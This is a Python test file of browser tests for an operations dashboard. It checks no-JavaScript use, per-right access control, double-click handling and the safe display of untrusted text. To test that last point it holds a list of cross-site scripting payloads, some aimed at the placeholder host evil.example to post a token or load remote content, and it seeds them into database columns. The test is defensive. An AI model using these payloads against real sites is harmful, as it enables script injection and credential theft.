"""What people do in a real browser: without JavaScript, with each right alone, before texts of strangers."""

from __future__ import annotations

import json

import pytest
from sqlalchemy import text

from resilient.surface.web.dashboard import mount
from resilient.surface.web.dashboard.guard import RIGHTS
from tests.surface.browser.conftest import shape
from tests.surface.test_audit_registry import commands

pytestmark = pytest.mark.asyncio(loop_scope="session")


# -- without JavaScript ----------------------------------------------------------------------------------------------


class Hand:
    """Somebody's hand at a page: fills the form of an action that has this button, presses it, follows."""

    def __init__(self, page):
        self.page, self.used = page, set()
        page.on("request", self._note)

    def _note(self, request):
        if request.method == "POST":
            self.used.add("/do/" + request.url.partition("/do/")[2])

    async def press(self, button, *, within="main", says=None, **fields):
        """``fields`` go into the form of the button; ``says`` is what the next page must say."""
        place = self.page.locator(within)
        while await place.locator("details:not([open]) > summary").count():
            await place.locator("details:not([open]) > summary").first.click()
        pressed = f"button:text-is('{button}')"
        form = place.locator(f"form:has({pressed})").first
        for name, value in fields.items():
            field = form.locator(f'[name="{name}"]')
            kind = await field.evaluate("(one) => one.type")
            if kind == "checkbox":
                await field.check()
            elif kind == "select-one":
                await field.select_option(value)
            else:
                await field.fill(value)
        await form.locator(pressed).click()
        if says is not None:
            await self.page.get_by_text(says).first.wait_for()


@pytest.mark.proof("tests/surface/test_dashboard.py: rights times actions")
async def test_every_page_and_every_action_works_without_javascript(site):
    app, shown = site.app, set()
    async with site.page(java_script_enabled=False) as page:
        for address in await site.addresses():
            answer = await page.goto(address)
            assert answer.status == 200, address
            assert await page.locator(".script:visible").count() == 0, "what needs scripts is hidden without them"
            shown |= set(await page.locator("p.command code").all_inner_texts())
        lines = [one.split() for text in shown for one in text.split("; ")]
        known = [["resilient", *name.split()] for name in commands()]
        unknown = [line for line in lines if not any(line[: len(name)] == name for name in known)]
        assert unknown == [], "each command that a page names is one"
        hand = Hand(page)
        await page.goto("/account/crm/acct-5")
        await hand.press("Pause", reason="asked", says="crm/acct-5 is paused.", **{"for": "2h"})
        await hand.press("Resume", says="crm/acct-5 is resumed.")
        await hand.press("Open the circuit", says="is opened by hand")
        await hand.press("Close the circuit", says="is closed by hand")
        await hand.press("Set", limits="100/min", concurrency="3", says="crm/acct-5 is limited.")
        await hand.press("Send a test request", says="GET /me through crm/acct-5: answered 200 in ")
        await page.goto("/accounts?q=crm&gate=pause")
        await hand.press("Count first", verb="resume", says="Resume 3 accounts?")
        await hand.press("Yes, do it", says="3 accounts: resumed.")
        await hand.press("Count first", verb="pause", q="crm/*", gate="", rate="1/h", says="Pause 12 accounts?")
        await hand.press("Yes, do it", says="Begun.")
        await hand.press("Stop", says="It stops: what is done stays.")
        await _jobs(app, page, hand)
        await page.goto("/schedules/nightly")
        await hand.press("Pause", says="nightly does not tick")
        await hand.press("Resume", says="nightly ticks again.")
        await hand.press("Run now", says="nightly has a job now.")
        flow = next(one for one in await app.workflows.list(state="running"))
        await page.goto(f"/workflows/{flow.id}")
        await hand.press("Turn it around", says="It turns around")
        await page.goto("/streams")
        await hand.press("Read anew", says="1 stream begins anew.")
        await page.goto("/outbox")
        await hand.press("Count first", since="1h", says="Publish 1 event once more?")
        await hand.press("Yes, do it", says="1 event in line again.")
        await page.goto("/connections")
        await hand.press("Yes: try them again", says="2 connections are tried again.")
    assert hand.used == set(mount.CHANGES)
    changes = {one.action for one in await app.audit.list(limit=100)}
    assert {"resources pause", "jobs retry", "schedules run", "workflows cancel", "sync reset"} <= changes


async def _jobs(app, page, hand):
    ready = (await app.jobs.list(state="ready", within="crm/acct-1", kind="contact.push", limit=1))[0]
    await page.goto(f"/jobs/{ready.id}/edit")
    await hand.press("Save", **{"p.name": "Bo", "priority": "9"}, says="Edited.")
    await hand.press("Cancel", says="It is cancelled")
    await hand.press("Run again", new_operation="yes", says="It runs again")
    doubt = next(one for one in await app.jobs.list(state="dead") if one.last_error_kind == "ambiguous")
    await page.goto(f"/jobs/{doubt.id}")
    await hand.press("It did happen: give the job up", says="It was given up")
    await page.goto("/enqueue?kind=contact.push&resource=crm/acct-5")
    await hand.press("Enqueue", **{"p.name": "Bo"}, says="contact.push")
    await page.goto("/dead")
    await hand.press("Replay", within="article:has-text('5 dead')", rate="10/s", says="Run again: 5 jobs?")
    await hand.press("Yes, do it", says="5 retried")
    await page.goto("/jobs?state=dead&kind=order.ship")
    await hand.press("Count first", verb="discard", says="Give up: 2 jobs?")
    await hand.press("Yes, do it", says="2 discarded")
    assert await app.jobs.count(state="dead") == 2


# -- rights times actions --------------------------------------------------------------------------------------------


_OFFERS = """
async (address) => {
  const page = new DOMParser().parseFromString(await (await fetch(address)).text(), 'text/html');
  return [...page.querySelectorAll('form[method=post]')].map((one) => one.getAttribute('action'));
}
"""


async def test_each_right_alone_offers_and_allows_what_it_is_for(site):
    """A form that was made for all rights, sent with one, is refused by the server for what that one does not allow."""
    offers = {right: set() for right in RIGHTS}
    needed = {**mount.CHANGES, "/do/bulk": ("resources", None)}  # to stop a change takes what that change takes
    async with site.page() as page:
        await page.goto("/")
        for right in RIGHTS:
            site.rights = ("read", right)
            for address in await site.addresses():
                if mount.PAGES[shape(address)][0] in site.rights:
                    offers[right] |= set(await page.evaluate(_OFFERS, address))
        for right in RIGHTS:
            assert offers[right] == {path for path, (needs, _) in needed.items() if needs == right}, right
        site.rights = RIGHTS
        await page.goto("/account/crm/acct-5")
        send = (
            "async (path) => (await fetch(path, {method: 'POST', redirect: 'manual',"
            " body: new URLSearchParams({token: document.querySelector('[name=token]').value})})).status"
        )
        for right in RIGHTS:
            site.rights = ("read", right)
            for path, (needs, _) in mount.CHANGES.items():
                status = await page.evaluate(send, path)
                assert (status == 403) == (needs not in site.rights), (right, path, status)
        site.rights = ("read",)
        page.faults[:] = [one for one in page.faults if "Failed to load resource" not in one]  # what was refused


# -- what strangers write --------------------------------------------------------------------------------------------

XSS = [
    "<script>executed()</script>",
    '"><img src=x onerror=executed()>',
    "'><svg/onload=executed()>",
    "</textarea></pre></title></script><script>executed()</script>",
    "<a href='javascript:executed()'>press</a>",
    "<details open ontoggle=executed()>",
    "<form action=//evil.example><input name=token><button>OK</button></form>",
    "<div hx-get=/jobs hx-trigger=load data-live=/ id=live hx-on:click=executed()>",
    "{{ executed() }}${executed()}<%= executed() %>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>",
    "<iframe srcdoc='<script>parent.executed()</script>'></iframe>",
]
_TEXTS = [  # what a tenant, a provider, a payload or an operator controls, by column
    ("resilient_job", "last_error"), ("resilient_job", "last_error_code"), ("resilient_job", "tags", "json"),
    ("resilient_job", "payload", "json"), ("resilient_job", "result", "json"), ("resilient_job", "progress", "json"),
    ("resilient_job", "sent", "json"), ("resilient_job", "kind"), ("resilient_job", "idempotency_key"),
    ("resilient_attempt", "message"), ("resilient_attempt", "code"), ("resilient_attempt", "traceback"),
    ("resilient_resource", "paused_reason"), ("resilient_resource", "last_error"),
    ("resilient_resource", "blocked_code"), ("resilient_alert", "subject"), ("resilient_alert", "detail", "json"),
    ("resilient_worker", "kinds", "json"), ("resilient_worker", "code_version"), ("resilient_cursor", "error"),
    ("resilient_audit", "who"), ("resilient_audit", "why"), ("resilient_audit", "subject"),
    ("resilient_audit", "action"), ("resilient_audit", "outcome", "json"), ("resilient_grant", "last_code"),
    ("resilient_workflow", "name"), ("resilient_workflow", "reason"), ("resilient_schedule", "kind"),
]  # fmt: skip


async def test_texts_of_strangers_are_shown_and_do_nothing(site):
    """Every column that others fill holds all of them: each can be read, nothing runs, nothing is an element."""
    evil = " ".join(XSS)
    await site.app.database.transaction(_spoil, evil)
    shown = set()
    async with site.page() as page:
        for address in await site.addresses():
            await page.goto(address)
            await page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true; })")
            foreign = await page.evaluate(
                "[...document.querySelectorAll('img, iframe, style, base, meta[http-equiv], [hx-get], [onerror],"
                ' [onload], [ontoggle], a[href^="javascript" i], form[action*=evil], link[href*=evil]\')]'
                ".map((one) => one.outerHTML)"
            )
            assert foreign == [], address
            assert await page.evaluate("window.reports") == [], address
            words = await page.evaluate("document.body.innerText.replace(/\\s+/g, '')")
            shown |= {one for one in XSS if "".join(one.split()) in words}
    assert shown == set(XSS)


def _spoil(c, d, evil):
    document = json.dumps({evil[:60]: evil, "also": [evil]})
    for table, column, *form in _TEXTS:
        value = document if form else evil
        c.execute(text(f"UPDATE {table} SET {column} = :value WHERE {column} IS NOT NULL"), {"value": value})


# -- two clicks ------------------------------------------------------------------------------------------------------


async def test_a_double_click_sends_a_change_once(site):
    posts = []
    async with site.page() as page:
        page.on("request", lambda request: posts.append(request.url) if request.method == "POST" else None)
        await page.goto("/account/crm/acct-5")
        for number, button in ((1, "Pause"), (2, "Resume")):
            await page.dblclick(f"button:text-is('{button}')")
            await page.get_by_text(f"crm/acct-5 is {button.lower().rstrip('e')}ed.").first.wait_for()
            assert len(posts) == number
        await page.go_back()
        await page.click("button:text-is('Resume')")
        await page.get_by_text("crm/acct-5").first.wait_for()
        await page.wait_for_load_state()
        assert len(posts) == 3, "after a way back it is meant"
